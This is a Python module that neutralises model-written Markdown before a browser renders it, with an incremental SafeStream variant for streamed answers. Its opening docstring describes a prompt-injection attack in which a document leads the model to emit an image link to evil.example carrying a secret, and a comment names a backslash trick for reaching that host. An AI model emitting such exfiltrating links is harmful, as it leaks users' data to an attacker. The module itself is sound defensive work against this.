"""Neutralise model output before a browser renders it as Markdown.

A document can carry a prompt injection that makes the model emit
``![x](https://evil.example/?q=<secret>)``; the browser would fetch that URL
as soon as the answer renders. So every image becomes plain text, links to
hosts outside an allow-list lose their target, and raw HTML is escaped.
Relative links such as ``/doc/leave.md#annual-leave`` (our own pages) stay.

`SafeStream` applies the same rules while text streams in: it holds back a
tail that might still grow into a link, image, tag or URL, so what it has
emitted is always a prefix of the neutralised final text. It neutralises only
the text after its last *cut*, a white-space position no construct spans, so the
work per answer is linear in its length.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

__all__ = ["SafeStream", "escape_markdown", "neutralise_markdown", "unescape_markdown"]

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s?(?:\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]*:[^>\s]*)>")
_BARE_URL = re.compile(r"(?<![`\w/])(?:https?|ftp)://[^\s)<>`\]]+", re.IGNORECASE)
_HTML_START = re.compile(r"<(?![a-zA-Z][a-zA-Z0-9+.-]*:[^>\s]*>)(?=[A-Za-z/!?])")
# Second line of defence for what the patterns above cannot see: images whose
# alt text nests brackets, any link destination (nested labels), and link
# reference definitions (which turn ``![x]`` or ``[x]`` into an image or link).
_ANY_IMAGE = re.compile(r"!\[")
# The destination is read ahead, not consumed: it may hold another "](" (a second pass
# would otherwise find that one and escape it, and neutralising twice must change nothing).
_DESTINATION = re.compile(r"\]\((?=\s*<?([^)\s>]*))")
# A label may hold escaped brackets and line breaks, up to CommonMark's 999 characters.
_DEFINITION = re.compile(r"(\[(?:[^\\\]]|\\[\s\S]){0,999}\]):")
# Private-use characters standing for an image replacement's brackets until the end.
_OPEN, _CLOSE = "\ue000", "\ue001"
_PLACEHOLDER = re.compile("[\ue000\ue001]")
_URL_NOISE = re.compile(r"[\x00-\x20]")
# What GFM autolinks: a scheme URL, a www. host, an e-mail address (at its "@"). A
# backslash before them is no protection ("\www" is a literal backslash); the
# escaped forms this makes ("https\://", "www\.", "\@") do not match again.
_LINKIFY = re.compile(
    r"(?<![\w+.-])(?P<scheme>[A-Za-z][\w+.-]*):(?=(?P<rest>//[^\s<>`]*))"
    r"|(?P<www>www)\.(?=(?P<host>[^\s<>`]*))"
    r"|(?<!\\)@",
    re.IGNORECASE,
)
# Backslash escapes (with the backtick run they may touch), backtick runs, line ends, pipes.
_CODE_TOKEN = re.compile(r"\\`+|\\[\s\S]|`+|\n|\|")
# Characters that can start Markdown links, images, emphasis, code, headings or tables.
_MD_SPECIAL = re.compile(r"([\\`*_\[\]()#!|~])")
# At the start of a line these begin a list item or a setext underline.
_LINE_START_MARK = re.compile(r"^(\s*)([-+=]|\d+\.)", re.MULTILINE)
_LINKIFIED = re.compile(r"(?<=[A-Za-z]):(?=//)|(?<=\bwww)\.|@", re.IGNORECASE)
# Any run of white space holding a line break (str.splitlines' set, CR LF included).
_LINE_BREAK = re.compile(r"\s*[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]\s*")

# Tails that may still become a construct once more text arrives.
_OPEN_TAIL = re.compile(
    # label, then (an image may have one blank first) a destination, which may hold line
    # ends, or a reference
    r"!?\[[^\]\n]*(?:\]\s?(?:\([^)]*|\[[^\]\n]*)?)?$"
    r"|<(?:[A-Za-z/!?][^>\n]*)?$"  # tag or autolink
    r"|!$"  # may become an image
    r"|\]\(\s*<?[^)\s>]*$"  # destination after a nested label, maybe across a line end
    r"|(?<![\w/])(?:https?://[^\s)<>`\]]*|h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?)$"  # URL in progress
    # What GFM may still autolink (`_LINKIFY`): any scheme followed by "//", a www.
    # host; whether it stays depends on the host, which ends only at white space.
    r"|(?<![\w+.-])[A-Za-z][\w+.-]*:(?://[^\s<>`]*|/)?$"
    r"|w{1,3}$|www\.[^\s<>`]*$"
    r"|[\\`]+$",  # a backtick run may grow (and then not close a span); a backslash escapes
    re.IGNORECASE,
)
_DESTINATION_TAIL = re.compile(r"\]\(\s*<?[^)\s>]*$")
_TAIL_WINDOW = 2000
# SafeStream neutralises the text after its last cut again on every delta; a cut
# is sought once this much more text has arrived, so each character is worked on
# a bounded number of times.
_SEGMENT_CHARS = 400
# CommonMark link labels hold at most 999 characters.
_MAX_LABEL = 1000


def neutralise_markdown(text: str, *, allowed_hosts: frozenset[str]) -> str:
    """Return ``text`` with images, foreign links and raw HTML made inert.

    Args:
        text: Markdown written by the model.
        allowed_hosts: Hostnames whose links may stay clickable (lower case).

    Returns:
        Markdown in which images read ``[image removed: alt]``, links to other
        hosts (or with ``javascript:``/``data:`` targets) keep only their label
        and show the URL as code, and HTML tags are escaped.
    """
    # An image becomes marked-off text that the link pattern does not read (its brackets
    # are placeholders until then): read again, "\\[image removed: a\\]" and a "(//)"
    # after it made a link that the streamed prefix never had.
    text = _IMAGE.sub(_replace_image, _PLACEHOLDER.sub("", text))
    text = _LINK.sub(lambda m: _replace_link(m, allowed_hosts), text)
    # The replacement's brackets are text again for the later guards, which must see
    # what a second pass sees (neutralising twice changes nothing).
    text = text.replace(_OPEN, "\\[").replace(_CLOSE, "\\]")
    text = _AUTOLINK.sub(lambda m: _replace_autolink(m, allowed_hosts), text)
    text = _BARE_URL.sub(lambda m: _replace_bare(m, allowed_hosts), text)
    text = _HTML_START.sub("&lt;", text)
    text = _ANY_IMAGE.sub(r"!\\[", text)
    text = _DESTINATION.sub(lambda m: _guard_destination(m, allowed_hosts), text)
    return _unlink_outside_code(_DEFINITION.sub(r"\1\\:", text), allowed_hosts)


def _unlink_outside_code(text: str, allowed: frozenset[str]) -> str:
    """Backslash what the renderer would autolink (GFM), except inside code spans.

    The code spans above keep URLs inert only while their backticks pair up; raw
    backticks next to them can break the pairing, so every ``scheme://`` of
    another host, ``www.`` and ``@`` outside a code span gets a backslash, which
    renders as the plain character.
    """
    out, cursor = [], 0
    for start, end in _code_spans(text):
        out += [_LINKIFY.sub(lambda m: _unlink(m, allowed), text[cursor:start]), text[start:end]]
        cursor = end
    out.append(_LINKIFY.sub(lambda m: _unlink(m, allowed), text[cursor:]))
    return "".join(out)


def _code_spans(text: str) -> list[tuple[int, int]]:
    """Return the code spans as CommonMark pairs backtick runs, within one line.

    Spans are only trusted inside a line and between table pipes: a line break can
    start another block (a list item, a quote) that no span crosses. Where this
    sees no span the text is backslashed, which at worst shows a backslash in code.
    """
    return _code_pairing(text)[0]


def _code_pairing(text: str) -> tuple[list[tuple[int, int]], int]:
    """Return `_code_spans` and where a single backtick still open at the end starts (-1: none)."""
    spans: list[tuple[int, int]] = []
    opened: tuple[int, int] | None = None  # start and length of the open run
    for match in _CODE_TOKEN.finditer(text):
        token = match.group(0)
        if token[-1] in "\n|":
            opened = None
        elif not token.startswith("`"):
            # Outside a span a backslash escapes the next character; inside, it is literal.
            if opened is None or not token.endswith("`"):
                continue
            if len(token) - 1 == opened[1]:
                spans.append((opened[0], match.end()))
                opened = None
        elif opened is None:
            # Only single-backtick spans (the ones made above) are trusted.
            opened = (match.start(), len(token)) if len(token) == 1 else None
        elif len(token) == opened[1]:
            spans.append((opened[0], match.end()))
            opened = None
    return spans, -1 if opened is None else opened[0]


def _unlink(match: re.Match[str], allowed: frozenset[str]) -> str:
    """Backslash the character the renderer's autolink starts from, unless the host is ours."""
    if match["www"]:
        own = is_allowed_url("//www." + match["host"], allowed_hosts=allowed)
        return match[0] if own else match["www"] + "\\."
    if match["scheme"]:
        url = f"{match['scheme']}:{match['rest']}"
        return match[0] if is_allowed_url(url, allowed_hosts=allowed) else match["scheme"] + "\\:"
    return "\\@"


def escape_markdown(text: str) -> str:
    """Return ``text`` as inert Markdown: HTML escaped, Markdown syntax backslashed.

    Document text shown in the chat (titles, snippets) must not create links,
    images or HTML; after escaping it renders as the literal characters. It is
    always shown inline, so line breaks become spaces: a multi-line title must
    not spill into paragraphs of its own.
    """
    text = _LINE_BREAK.sub(" ", text)
    html_safe = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = _MD_SPECIAL.sub(r"\\\1", html_safe)
    # The chat's renderer also links bare URLs, www. hosts and e-mail addresses
    # (GFM autolinks); a backslash before ":", "." or "@" keeps them plain text.
    escaped = _LINKIFIED.sub(lambda m: "\\" + m[0], escaped)
    return _LINE_START_MARK.sub(lambda m: m[1] + _escape_mark(m[2]), escaped)


_BACKSLASHED = re.compile(r"\\([!-/:-@\[-`{-~])")
_ENTITIES = {"&lt;": "<", "&gt;": ">", "&amp;": "&"}
_ENTITY = re.compile("|".join(_ENTITIES))


def unescape_markdown(text: str) -> str:
    r"""Return neutralised Markdown as plain text: no backslash escapes, no ``&lt;``.

    For outputs read as text (``ask`` in a terminal, its JSON ``answer``): ``From
    [2]\:`` reads ``From [2]:``. Code spans are left as they are (a backslash is
    literal there).
    """
    out: list[str] = []
    cursor = 0
    for start, end in _code_spans(text):
        out += [_unescaped(text[cursor:start]), text[start:end]]
        cursor = end
    out.append(_unescaped(text[cursor:]))
    return "".join(out)


def _unescaped(text: str) -> str:
    text = _BACKSLASHED.sub(r"\1", text)
    return _ENTITY.sub(lambda m: _ENTITIES[m[0]], text)


def _escape_mark(mark: str) -> str:
    # "1." becomes "1\." (the number stays); "-", "+" and "=" get a backslash.
    return mark[:-1] + "\\." if mark.endswith(".") else "\\" + mark


def is_allowed_url(url: str, *, allowed_hosts: frozenset[str]) -> bool:
    """Return whether ``url`` is relative to our own site or on an allowed host."""
    # Browsers decode entities in attributes, drop tabs and newlines inside
    # URLs and read "\\" as "/", so "/\\evil.example" is "//evil.example".
    url = _URL_NOISE.sub("", html.unescape(url)).replace("\\", "/")
    if url.startswith("//"):
        return _host(url) in allowed_hosts
    try:
        parts = urlsplit(url)
    except ValueError:  # e.g. "http://[evil" (an unclosed IPv6 host)
        return False
    if not parts.scheme:
        return True
    return parts.scheme.lower() in ("http", "https") and _host(url) in allowed_hosts


class SafeStream:
    """Neutralises streamed Markdown incrementally, in time linear in its length.

    ``feed(delta)`` returns the next piece of safe text (possibly empty);
    ``finish()`` returns the rest; the pieces always join to `text`. The text is
    neutralised in segments that end at *cuts*: white space outside any open
    label, link destination or ``]`` (`_last_cut`), so no construct spans a cut
    and `text` equals ``neutralise_markdown(all deltas)``, except that a label
    open for more than 999 characters (no label, for CommonMark) may be cut.

    Args:
        allowed_hosts: Hostnames whose links may stay clickable (lower case).
        segment_chars: How much new text is gathered before a cut is sought.
    """

    def __init__(
        self, *, allowed_hosts: frozenset[str], segment_chars: int = _SEGMENT_CHARS
    ) -> None:
        self._allowed = allowed_hosts
        self._segment = segment_chars
        self._frozen: list[str] = []  # neutralised segments before the last cut
        self._raw = ""  # raw text after the last cut
        self._emitted = ""  # what was emitted of ``_raw``, neutralised
        self._emitted_raw = 0  # the length of ``_raw`` that ``_emitted`` neutralises
        self._next_cut = segment_chars

    @property
    def text(self) -> str:
        """Return the neutralised text of everything fed so far."""
        return "".join(self._frozen) + neutralise_markdown(self._raw, allowed_hosts=self._allowed)

    def feed(self, delta: str) -> str:
        """Add ``delta`` and return the safe text that can be shown now."""
        self._raw += delta
        out, held = self._advance(_stable_length(self._raw), final=False)
        if len(self._raw) >= self._next_cut and not held:
            self._cut()
        return out

    def finish(self) -> str:
        """Return whatever was held back, now that the text is complete."""
        return self._advance(len(self._raw), final=True)[0]

    def _advance(self, stable: int, *, final: bool) -> tuple[str, bool]:
        """Return the next safe piece, and whether some of the stable text is held back."""
        safe = neutralise_markdown(self._raw[:stable], allowed_hosts=self._allowed)
        shown, held = safe, False
        if not final:
            # A backtick the neutralised text leaves open may pair with a later one
            # (its own inert code spans included), which changes what the text
            # between them needs; everything before it is settled.
            opened = _code_pairing(safe)[1]
            if opened >= 0:
                shown, held = safe[:opened], True
        if not shown.startswith(self._emitted):
            # Cannot happen for the constructs above; emit nothing rather than wrong text.
            return "", True
        delta = shown[len(self._emitted) :]
        self._emitted, self._emitted_raw = shown, stable
        return delta, held

    def _cut(self) -> None:
        """Freeze the segment before the last cut already emitted, if there is one."""
        at = _last_cut(self._raw, end=self._emitted_raw)
        self._next_cut = len(self._raw) + self._segment
        if at <= 0:
            return
        head = neutralise_markdown(self._raw[:at], allowed_hosts=self._allowed)
        rest = neutralise_markdown(self._raw[at : self._emitted_raw], allowed_hosts=self._allowed)
        if self._emitted != head + rest:
            return  # the cut would change the text: keep the segment whole
        self._frozen.append(head)
        self._raw = self._raw[at:]
        self._emitted, self._emitted_raw = rest, self._emitted_raw - at
        self._next_cut = len(self._raw) + self._segment


def _last_cut(raw: str, *, end: int) -> int:
    """Return the last position of ``raw[:end]`` that no construct spans (0 for none).

    That is just after white space, outside any ``[`` label (unless it opened more
    than `_MAX_LABEL` characters before) and any ``](`` destination, and not after a
    ``]`` followed only by white space (``![a]`` + line end + ``(url)``). Escaped
    ``[`` still count as opening, so a cut is never inside a label either way.
    """
    depth, opened, escaped, last = 0, 0, False, ""
    in_destination = token = False
    cut = 0
    for i in range(end):
        char = raw[i]
        if char.isspace():
            if in_destination and token:
                in_destination = False  # the destination ended; a title cannot link
            if not in_destination and last != "]" and (depth == 0 or i - opened > _MAX_LABEL):
                cut = i + 1
            escaped = False
            continue
        if in_destination:
            token = token or char != "<"
            in_destination = char != ")"
        elif char == "(" and last == "]" and raw[i - 1] == "]":
            in_destination, token = True, False
        elif char == "[":
            depth, opened = depth + 1, opened if depth else i
        elif char == "]" and not escaped:
            depth = max(0, depth - 1)
        escaped = char == "\\" and not escaped
        last = char
    return cut


_BACKTICKS = re.compile(r"`+")
# Stands for each character of a whole image while tails and links are sought.
_MASK = "\ue002"


def _stable_length(raw: str) -> int:
    """Return how much of ``raw`` cannot change meaning when more text is appended."""
    # From the line before the last: a link destination may follow a line end.
    start = max(0, len(raw) - _TAIL_WINDOW, raw.rfind("\n", 0, max(raw.rfind("\n"), 0)) + 1)
    # The neutraliser replaces images first, so a link label may hold a whole image
    # ("[![a](x)](y)"); labels and links are read with images masked, positions kept.
    # The replacement ends in "\\]", which a "(" after it opens as a destination.
    masked = _IMAGE.sub(lambda m: _MASK * len(m[0]), raw)
    closed = _IMAGE.sub(lambda m: _MASK * (len(m[0]) - 1) + "]", raw)
    cut = _open_tail(masked, closed, start, len(raw))
    # No stable prefix ends inside a link, an image or a code span (text inside one
    # is not escaped, and one still open may close later); moving the cut out of one
    # can put it inside another, so repeat until it stays.
    while True:
        moved = _outside_code(raw, cut)
        for pattern, text in ((_IMAGE, raw), (_LINK, masked), (_AUTOLINK, masked)):
            for done in pattern.finditer(text, start):
                if done.start() < moved < done.end():
                    moved = done.start()
        if moved < cut:
            # Moved out of a code span or a construct, the cut may now end a tail that
            # a later part of ``raw`` completes ("<a:" of "<a:`>"; "](/" before an image,
            # whose replacement extends that destination), perhaps before the window.
            start = min(start, raw.rfind("\n", 0, max(raw.rfind("\n", 0, moved), 0)) + 1)
            moved = _open_tail(masked, closed, start, moved)
        if moved == cut:
            break
        cut = moved
    # Whether a "<" is escaped depends on the character after it.
    return cut - 1 if cut and raw[cut - 1] == "<" else cut


def _open_tail(masked: str, closed: str, start: int, end: int) -> int:
    """Return where a tail that may still grow into a construct starts before ``end``."""
    tails = [_OPEN_TAIL.search(masked, start, end), _DESTINATION_TAIL.search(closed, start, end)]
    return min((tail.start() for tail in tails if tail), default=end)


def _outside_code(raw: str, cut: int) -> int:
    """Return ``cut``, or the start of the code span it falls in (closed or still open).

    Text inside a code span is not escaped, and a span still open may close later,
    so no stable prefix may end inside one.
    """
    opened_at, opened_len = -1, 0
    for run in _BACKTICKS.finditer(raw):
        if run.start() >= cut and not opened_len:
            break
        if not opened_len:
            opened_at, opened_len = run.start(), len(run.group())
        elif len(run.group()) == opened_len:
            if opened_at < cut < run.end():
                return opened_at
            opened_at, opened_len = -1, 0
    cut = opened_at if opened_len and opened_at < cut else cut
    # The neutraliser pairs backticks within a line (`_code_spans`); a run this
    # paired across a line end may still open a span there.
    spans, still_open = _code_pairing(raw)
    for start, end in spans:
        if start < cut < end:
            cut = start
    return still_open if 0 <= still_open < cut else cut


def _guard_destination(match: re.Match[str], allowed: frozenset[str]) -> str:
    return match.group(0) if is_allowed_url(match.group(1), allowed_hosts=allowed) else "]\\("


def _replace_image(match: re.Match[str]) -> str:
    alt = re.sub(r"[\[\]]", "", match.group(1)).strip() or "no description"
    return f"{_OPEN}image removed: {alt}{_CLOSE}"


def _replace_link(match: re.Match[str], allowed: frozenset[str]) -> str:
    label, url = match.group(1), match.group(2)
    if is_allowed_url(url, allowed_hosts=allowed):
        return match.group(0)
    return f"{label} ({_inert(url)})" if url else label


def _replace_autolink(match: re.Match[str], allowed: frozenset[str]) -> str:
    url = match.group(1)
    return match.group(0) if is_allowed_url(url, allowed_hosts=allowed) else _inert(url)


def _replace_bare(match: re.Match[str], allowed: frozenset[str]) -> str:
    url = match.group(0)
    return url if is_allowed_url(url, allowed_hosts=allowed) else _inert(url)


def _inert(url: str) -> str:
    """Return ``url`` as inline code, which Markdown never turns into a link."""
    return "`" + url.replace("`", "") + "`"


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""
